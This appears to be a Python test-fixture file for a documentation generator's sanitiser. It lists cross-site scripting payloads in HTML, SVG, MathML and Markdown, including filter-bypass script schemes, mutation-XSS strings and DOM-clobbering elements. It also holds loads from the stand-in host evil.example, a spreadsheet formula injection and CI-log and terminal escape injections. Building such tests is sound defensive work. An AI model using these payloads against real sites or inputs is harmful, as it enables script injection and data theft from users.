"""Hostile inputs: what a page, a name, a table of contents or a translation may hold to run a script on a reader's machine.

Every script of theirs calls boo(), which the tests hear. Each list is made of parts that are put together in many ways, in an
order that never changes; what a test takes of it is spread over the whole list.
"""
import itertools

BOO = "boo()"
HOST = "evil.example"

# Ways to write the scheme of a script: plain, in other letters, with what browsers pass over, with character references.
SCHEMES = [
    "javascript:boo()", "JavaScript:boo()", "jAvAsCrIpT:boo()", " javascript:boo()", "\tjavascript:boo()", "java\tscript:boo()",
    "java\nscript:boo()", "java\rscript:boo()", "\x01javascript:boo()", "\x0cjavascript:boo()", "javascript\t:boo()",
    "&#106;avascript:boo()", "&#x6A;avascript:boo()", "&#0000106avascript:boo()", "&#x6aavascript:boo()", "javascript&colon;boo()",
    "javascript&#58;boo()", "java&Tab;script:boo()", "java&NewLine;script:boo()", "javascript&#x3A;boo()", "&#1;javascript:boo()",
    "javascript://%0aboo()", "javascript:/*--></title></style></textarea></script>*/boo()", "%6aavascript:boo()",
    "javascript%3aboo()", "vbscript:boo()", "VBScript:boo()", "livescript:boo()", "data:text/html,<script>boo()</script>",
    "data:text/html;base64,PHNjcmlwdD5ib28oKTwvc2NyaXB0Pg==", "DATA:text/html,<script>boo()</script>",
    "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='boo()'/>", "data:application/xhtml+xml,<x/>",
    "blob:https://evil.example/x", "filesystem:https://evil.example/x", "feed:javascript:boo()", "view-source:javascript:boo()",
    "jar:javascript:boo()", "\u00a0javascript:boo()", "\u200bjavascript:boo()", "\ufeffjavascript:boo()", "javascript\u2028:boo()",
    "ｊavascript:boo()", "ſcript:boo()", "java\\script:boo()", "java\x00script:boo()", "//evil.example/x", "\\\\evil.example\\x",
    "./javascript:boo()", "?javascript:boo()", "#javascript:boo()",
]

# Places of an address in HTML, in elements of all namespaces.
ADDRESSES = [
    '<a href="{}">x</a>', "<a href='{}'>x</a>", "<a href={}>x</a>", '<area href="{}">', '<svg><a href="{}"><text>x</text></a></svg>',
    '<svg><a xlink:href="{}"><text y="9">x</text></a></svg>', '<math><mtext href="{}">x</mtext></math>',
    '<math xlink:href="{}">x</math>', '<img src="{}">', '<img srcset="{} 2x">', '<picture><source srcset="{}"><img></picture>',
    '<iframe src="{}"></iframe>', '<embed src="{}">', '<object data="{}"></object>', '<form action="{}"><button>x</button></form>',
    '<form><button formaction="{}">x</button></form>', '<input type=image src="{}">', '<isindex action="{}">', '<body background="{}">',
    '<table background="{}"><tr><td background="{}">x</table>', '<video poster="{}"><source src="{}"></video>', '<audio src="{}"></audio>',
    '<track src="{}">', '<base href="{}">', '<link rel=stylesheet href="{}">', '<link rel=prefetch href="{}">',
    '<link rel=import href="{}">', '<meta http-equiv=refresh content="0;url={}">', '<blockquote cite="{}">x</blockquote>',
    '<q cite="{}">x</q>', '<del cite="{}">x</del>', '<img longdesc="{}" src=x>', '<a ping="{}" href="x">x</a>', '<bgsound src="{}">',
    '<frameset><frame src="{}"></frameset>', '<applet code="{}" archive="{}"></applet>', '<svg><use href="{}#x"></use></svg>',
    '<svg><image href="{}"></image></svg>', '<svg><script href="{}"></script></svg>',
    '<svg><animate attributeName=href values="{}"></animate></svg>', '<svg><set attributeName=href to="{}"></set></svg>',
    '<svg><foreignObject><a href="{}">x</a></foreignObject></svg>', '<script src="{}"></script>', '<portal src="{}"></portal>',
]

# The same in Markdown.
MARKDOWN_ADDRESSES = [
    "[x]({})", "[x](<{}>)", "[x]({} 'title')", "![x]({})", "![x](<{}>)", "<{}>", "[x][y]\n\n[y]: {}", "[x]\n\n[x]: <{}> (title)",
    "[![x]({})]({})", "![x][y]\n\n[y]: {}", "[*x*]({})", "# [x]({})", "| a |\n|---|\n| [x]({}) |", "> [x]({})", "- [x]({})",
    "[^1]\n\n[^1]: [x]({})", "[`x`]({})", "<dl><dt>[x]({})</dt><dd>x</dd></dl>", "> [!NOTE]\n> [x]({})", "\\[x]({}) [x\\]]({})",
]

# Elements that run a script by themselves, or ask another host.
ELEMENTS = [
    "<script>boo()</script>", "<SCRIPT>boo()</SCRIPT>", "<script\n>boo()</script\n>", "<script/x>boo()</script>", "<script>boo()",
    "<scr<script>ipt>boo()</scr</script>ipt>", "<<script>boo()//<</script>", "<script src=//evil.example/x.js></script>",
    "<script type=module>boo()</script>", "<script type=importmap>{}</script>", "<svg><script>boo()</script></svg>",
    "<svg><script>&#98;oo()</script></svg>", "<math><script>boo()</script></math>", "<svg onload=boo()>", "<svg/onload=boo()>",
    "<svg><animate onbegin=boo() attributeName=x dur=1s>", "<svg><set onbegin=boo() attributeName=x>", "<svg><style><img src=x onerror=boo()>",
    "<svg><desc><img src=x onerror=boo()></desc></svg>", "<svg></p><style><a id=\"</style><img src=1 onerror=boo()>\">",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=boo()&gt;\">",
    "<math><annotation-xml encoding=text/html><img src=x onerror=boo()></annotation-xml></math>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=boo()>", "<img src=x onerror=boo()>", "<img src=x oNeRrOr=boo()>",
    "<img src=x\nonerror=boo()>", "<img/src=x/onerror=boo()>", "<img src='x'onerror='boo()'>", "<img \"\"\"><script>boo()</script>\">",
    "<img src=x onerror=&#98;oo()>", "<img src=`x`onerror=boo()>", "<img src=x:x onerror\x0c=boo()>", "<image src=x onerror=boo()>",
    "<iframe srcdoc=\"<script>parent.boo()</script>\"></iframe>", "<iframe onload=boo()></iframe>", "<iframe src=//evil.example></iframe>",
    "<object data=//evil.example></object>", "<object><param name=src value=//evil.example></object>", "<embed src=//evil.example>",
    "<video src=x onerror=boo()></video>", "<video><source onerror=boo()></video>", "<audio src=x onerror=boo()></audio>",
    "<body onload=boo()>", "<body onpageshow=boo()>", "<html onmouseover=boo()>", "<frameset onload=boo()>", "<details open ontoggle=boo()><summary>x</summary></details>",
    "<input autofocus onfocus=boo()>", "<select autofocus onfocus=boo()>", "<textarea autofocus onfocus=boo()>", "<button autofocus onfocus=boo()>x</button>",
    "<a href=x.md onclick=boo() onfocus=boo() autofocus tabindex=1>x</a>", "<marquee onstart=boo()>x</marquee>", "<div style=animation-name:x onanimationstart=boo()>x</div>",
    "<p onmouseover=boo() onpointerenter=boo() onclick=boo()>x</p>", "<div contenteditable onblur=boo() onbeforeinput=boo()>x</div>",
    "<div popover id=p onbeforetoggle=boo()>x</div><button popovertarget=p autofocus>x</button>", "<dialog open oncancel=boo()>x</dialog>",
    "<meta http-equiv=refresh content=\"0;url=//evil.example\">", "<meta http-equiv=refresh content=\"0;url=data:text/html,x\">",
    "<meta http-equiv=Set-Cookie content=x=y>", "<meta charset=utf-7>+ADw-script+AD4-boo()+ADw-/script+AD4-", "<base href=//evil.example/>",
    "<link rel=stylesheet href=//evil.example/x.css>", "<link rel=preload as=script href=//evil.example/x.js>", "<link rel=dns-prefetch href=//evil.example>",
    "<link rel=prerender href=//evil.example>", "<link rel=modulepreload href=//evil.example/x.js>", "<link rel=icon href=//evil.example/x.png>",
    "<style>@import '//evil.example/x.css'; body { background: url(//evil.example/x) }</style>", "<style>*{x:expression(boo())}</style>",
    "<div style=\"background:url(//evil.example/x);position:fixed;inset:0\">x</div>", "<div style=\"behavior:url(x);width:expression(boo())\">x</div>",
    "<p class=\"search visually-hidden\" style=\"position:fixed;inset:0;z-index:99\">x</p>", "<img src=//evil.example/x.png>", "<img src=https://evil.example/x.png>",
    "![x](https://evil.example/x.png)", "![x](//evil.example/x.png)", "<img srcset=\"//evil.example/x.png 1x\">", "<picture><source srcset=//evil.example/x.png><img src=x></picture>",
    "<video poster=//evil.example/x.png autoplay src=//evil.example/x.mp4></video>", "<audio autoplay src=//evil.example/x.mp3></audio>", "<input type=image src=//evil.example/x.png>",
    "<table background=//evil.example/x.png><tr><td>x</table>", "<svg><image href=//evil.example/x.png /></svg>", "<svg><use href=//evil.example/x.svg#x /></svg>",
    "<svg><feImage href=//evil.example/x.png /></svg>", "<svg fill=\"url(//evil.example/x)\"></svg>", "<a ping=//evil.example href=x.md>x</a>", "<track src=//evil.example/x.vtt>",
    "<template><script>boo()</script></template>", "<template shadowrootmode=open><script>boo()</script></template>", "<template><img src=x onerror=boo()></template>",
    "<noscript><p title=\"</noscript><img src=x onerror=boo()>\"></noscript>", "<noscript><style></noscript><img src=x onerror=boo()>", "<noembed><img title=\"</noembed><img src onerror=boo()>\"></noembed>",
    "<noframes><script>boo()</script></noframes>", "<xmp><p title=\"</xmp><img src=x onerror=boo()>\"></xmp>", "<plaintext><script>boo()</script>", "<listing>&lt;img src=x onerror=boo()&gt;</listing>",
    "<title><script>boo()</script></title>", "<title></title><img src=x onerror=boo()>", "<textarea><script>boo()</script></textarea>", "<textarea></textarea><img src=x onerror=boo()>",
    "<select><option><script>boo()</script></select>", "<select><style></select><img src=x onerror=boo()></style>", "<table><script>boo()</script><tr><td onclick=boo()>x</table>",
    "<table><caption onclick=boo()><svg onload=boo()></caption></table>", "<custom-element onclick=boo()><script>boo()</script></custom-element>", "<x is=script>boo()</x>", "<isindex prompt=x action=javascript:boo()>",
    "<!-- --><script>boo()</script><!-- -->", "<!--><script>boo()</script>-->", "<!---><img src=x onerror=boo()>-->", "<!-- --!><img src=x onerror=boo()> -->", "<!--[if IE]><script>boo()</script><![endif]-->",
    "<![CDATA[<script>boo()</script>]]>", "<svg><![CDATA[><img src=x onerror=boo()>]]></svg>", "<?xml-stylesheet href=//evil.example/x.xsl?>", "<?php boo() ?><script>boo()</script>", "<!DOCTYPE x [<!ENTITY y SYSTEM '//evil.example'>]>",
    "</article></main><script>boo()</script>", "</p></div></body></html><script>boo()</script>", "</template></noscript><img src=x onerror=boo()>", "</script><script>boo()</script>", "<p title='\"><script>boo()</script>'>x</p>",
    "<p id='\" onclick=boo() x=\"'>x</p>", "<p title=\"--><img src=x onerror=boo()>\">x</p>", "<p lang='\" onclick=boo()'>x</p>", "<p dir='\" onclick=boo()'>x</p>", "<a name='\"><script>boo()</script>'></a>",
    "<ol start='1\" onclick=\"boo()'><li value='\" onclick=boo()'>x</ol>", "<ol type='a\" onclick=\"boo()'><li>x</ol>", "<img src=x width='1\" onerror=\"boo()'>", "<td colspan='2\" onclick=\"boo()'>x</td>", "<table><tr><th scope='\" onclick=boo()'>x</table>",
    "<a href=\"x.md\u0000\" onclick=boo()>x</a>", "<script\x00>boo()</script>", "<\x00script>boo()</script>", "<scr\x00ipt>boo()</scr\x00ipt>", "\ufeff<script>boo()</script>", "<ſcript>boo()</ſcript>", "<script>boo()</ſcript></script>",
    "&lt;script&gt;boo()&lt;/script&gt;", "&#60;script>boo()&#60;/script>", "\\<script>boo()\\</script>", "`<script>boo()</script>`", "``` <script>boo()</script>\n<script>boo()</script>\n```", "```\" onclick=\"boo()\nx\n```",
    "```html\"><script>boo()</script>\nx\n```", "~~~'><img src=x onerror=boo()>\nx\n~~~", "    <script>boo()</script>", "# <script>boo()</script>", "# x <img src=x onerror=boo()> {#y onclick=boo()}", "<script>boo()</script>\n===",
    "| <script>boo()</script> |\n|---|\n| <img src=x onerror=boo()> |", "| a |\n|:-\" onclick=\"boo():|\n| b |", "- <script>boo()</script>\n  <img src=x onerror=boo()>", "> <script>boo()</script>", "> [!NOTE]\n> <img src=x onerror=boo()>",
    "> [!<script>boo()</script>]\n> x", "[^1]\n\n[^1]: <script>boo()</script>", "[^<img src=x onerror=boo()>]\n\n[^<img src=x onerror=boo()>]: x", "*<script>boo()</script>*", "~~<img src=x onerror=boo()>~~", "[<img src=x onerror=boo()>](x.md)",
    "![<img src=x onerror=boo()>](x.png)", "![\"><img src=x onerror=boo()>](x.png)", "[x](x.md '\" onclick=\"boo()')", "[x](x.md \"'><script>boo()</script>\")", "[x](x.md#\"><script>boo()</script>)", "[x](https://x.example/\"onclick=boo())",
    "<https://x.example/\"onclick=boo()>", "<a@b.c\"onclick=boo()>", "<dl><dt onclick=boo()><script>boo()</script></dt><dd><img src=x onerror=boo()></dd></dl>", "## Parameters\n\n*<script>boo()</script>* \\[in\\]\n\n<img src=x onerror=boo()>",
    "## Return value\n\n**<script>boo()</script>** (<img src=x onerror=boo()>)", "## Requirements\n\n| x | y |\n|---|---|\n| Header | <script>boo()</script> |\n| DLL | <img src=x onerror=boo()> |", "## Syntax\n\n```cpp\n<script>boo()</script> F(int <img/src=x/onerror=boo()>);\n```",
    "<ruby onclick=boo()>x<rt><script>boo()</script></rt></ruby>", "<kbd onclick=boo()>x</kbd><mark onclick=boo()>x</mark>", "<details onclick=boo()><summary><script>boo()</script></summary><img src=x onerror=boo()></details>", "<h2 id='x\" onclick=\"boo()'>x</h2>",
    "<pre onclick=boo()><script>boo()</script></pre>", "<pre>\n<code class='\" onclick=boo()'><img src=x onerror=boo()></code></pre>", "<!-- docgen-disable-file --><script>boo()</script>", "{{{content}}}{{>head}}<script>boo()</script>", "${boo()}`;boo()//", "');boo()//", "\");boo()//",
    "<a href='x.md'><a href='javascript:boo()'>x</a></a>", "<a href=x.md><svg><a xlink:href=javascript:boo()>x</a></svg></a>", "<p><p><p><script>boo()</script></p></p></p>", "<b><i></b><script>boo()</script></i>", "<div><table><div><img src=x onerror=boo()></table></div>",
]

# Elements of the content that scripts would take for the interface's, or for the document's own.
SHADOWS = [
    '<a id="docgenOpenSearch"></a>', '<a id="docgenSearch"></a><a id="docgenNavigation"></a>', '<a id="docgen"></a><a id="docgen" name="openSearch"></a>',
    '<a id="main"></a><p id="main">x</p>', '<a id="docgen:results"></a><p id="docgen:result-0">x</p>', '<a name="docgen:results"></a>',
    '<img name=body><img name=currentScript><img name=querySelector><img name=querySelectorAll>', '<form name=body><input name=attributes><input id=children></form>',
    '<form id=main name=documentElement><input name=classList></form>', '<a id=document></a><a id=location></a><a id=localStorage></a><a id=navigator></a>',
    '<img id=getElementById name=getElementById><img id=head name=head><img id=links name=links>', '<iframe name=docgen></iframe><object id=docgen></object><embed id=docgen>',
    '<p class="find">x</p><div class="languages"><summary>x</summary></div>', '<p data-tree="//evil.example/x.js" data-expand=x>x</p>', '<a data-compare="x" href="//evil.example">x</a>',
    '<div class="code"><pre>x</pre></div><article class="content">x</article>', '<dialog class="search" open><input></dialog>', '<script data-search="//evil.example/" data-locale=x></script>',
    '# Search\n\n# Main\n\n## docgen:results\n\n## docgenOpenSearch', '<a name="%FF"></a>\n\n## <a name="%E0%A4%A"></a>Percent\n\n## <a name="a%41"></a>Other',
]

# Texts for titles and the like, for attributes, scripts, JSON, XML, CSS, templates and terminals.
TEXTS = [
    "<script>boo()</script>", "\"><script>boo()</script>", "'><script>boo()</script>", "\" onclick=\"boo()", "' onmouseover='boo()", "</title><script>boo()</script>",
    "</script><script>boo()</script>", "--><script>boo()</script>", "]]><script>boo()</script>", "<img src=x onerror=boo()>", "<svg/onload=boo()>", "&lt;script&gt;boo()&lt;/script&gt;",
    "&#60;img src=x onerror=boo()&#62;", "\\u003cimg src=x onerror=boo()\\u003e", "{{{content}}}", "{{>head}}{{#items}}", "${boo()}", "`;boo();`", "\\`);boo()//", "\");boo()//",
    "');boo()//", "</textarea><img src=x onerror=boo()>", "<iframe src=//evil.example>", "<style>@import '//evil.example'</style>", "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "javascript:boo()", "[x](javascript:boo())", "![x](//evil.example/x.png)", "<a href=javascript:boo()>x</a>", "\u202egnp.exe\u202c", "\u2028boo()\u2029", "\x1b[31mred\x1b]0;boo\x07",
    "a\nb: <img src=x onerror=boo()>", "::add-mask::x", "a\r\n::set-output name=x::y", "\ufffe\uffff\x00\x7f\x9b", "%3Cscript%3Eboo()%3C/script%3E", "x" * 3000, "=cmd|' /C calc'!A0", "<form name=body><input name=attributes>",
]

# What a file may be called.
NAMES = [
    "javascript:boo()", "JavaScript:alert(1)", "data:text,x", "vbscript:x", "mailto:x", "a:b", ":", "c:x", "https:", "?query", "a?b#c", "#hash", "%", "%2e%2e", "%00", "%3Cscript%3E", "a&b", "&amp;", "'quote'", "\"quotes\"",
    "<img src=x onerror=boo()>", "<script>boo()<", "`tick`", "${boo()}", "a b", " leading and trailing ", "-rf", "--help", "a\nb", "a\n::add-mask::x", "a\rb", "a\tb", "\x1b[31mred", "a\x7f\u009bb", "\u202egnp.exe", "\u2028line", "\ufeffbom",
    "a\\b", "..\\..\\x", "dots..", "con", "x.html", "x.md", "{{title}}", "(v=vs.85)", "[x](y)", "ünïcödé 漢字", "e\u0301", "*", "n" * 250, "ä" * 125,
]


def bodies():
    """Every hostile body, under a name that says where it comes from."""
    for number, element in enumerate(ELEMENTS):
        yield f"element-{number}", element
    places = ADDRESSES + MARKDOWN_ADDRESSES
    # Every place and every way at least once.
    for number, scheme in zip(range(max(len(places), len(SCHEMES)) * 2), itertools.cycle(SCHEMES)):
        place = places[number % len(places)]
        yield f"address-{number}", place.replace("{}", scheme)
    for number, shadow in enumerate(SHADOWS):
        yield f"shadow-{number}", shadow


def spread(values, count):
    """So many of some values, from all parts of them; nothing for all."""
    values = list(values)
    if count is None or count >= len(values):
        return values
    return [values[index * len(values) // count] for index in range(count)]


def yaml(text):
    """A text as YAML has it between double quotes; some characters only so."""
    escaped = []
    for character in text:
        code = ord(character)
        if character in "\"\\":
            escaped.append("\\" + character)
        elif code < 0x20 or 0x7f <= code < 0xa0 or code in (0x2028, 0x2029, 0xfeff, 0xfffe, 0xffff):
            escaped.append(f"\\u{code:04x}")
        else:
            escaped.append(character)
    return '"' + "".join(escaped) + '"'
